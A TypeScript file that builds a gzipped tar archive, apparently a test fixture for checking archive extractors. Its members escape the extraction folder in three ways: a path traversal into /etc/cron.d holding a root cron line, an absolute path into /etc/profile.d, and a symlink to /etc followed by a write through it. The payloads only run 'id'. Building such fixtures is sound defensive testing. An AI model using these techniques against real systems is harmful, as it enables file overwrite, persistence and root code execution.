// A hostile archive: a gzipped tar whose members climb out of the folder they are unpacked in.
import { gzipSync } from 'node:zlib';

const blockBytes = 512;

/** One tar member in ustar form (POSIX.1-1988, tar interchange format). */
function member(name: string, typeFlag: '0' | '2', link: string, text: string): Buffer {
  const content = Buffer.from(text);
  const header = Buffer.alloc(blockBytes);
  header.write(name, 0, 100);
  header.write('0000644\0', 100);
  header.write('0000000\0', 108);
  header.write('0000000\0', 116);
  header.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
  header.write('00000000000\0', 136);
  header.write('        ', 148);
  header.write(typeFlag, 156);
  header.write(link, 157, 100);
  header.write('ustar\0', 257);
  header.write('00', 263);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const padding = Buffer.alloc((blockBytes - (content.length % blockBytes)) % blockBytes);
  return Buffer.concat([header, content, padding]);
}

/** Path traversal, an absolute path, and a link out followed by a write through it. */
export function traversalArchive(): Buffer {
  return gzipSync(
    Buffer.concat([
      member('../../../../etc/cron.d/bongsu-owned', '0', '', '* * * * * root id\n'),
      member('/etc/profile.d/bongsu-owned.sh', '0', '', 'id\n'),
      member('out', '2', '/etc', ''),
      member('out/bongsu-owned', '0', '', 'id\n'),
      Buffer.alloc(2 * blockBytes),
    ]),
  );
}
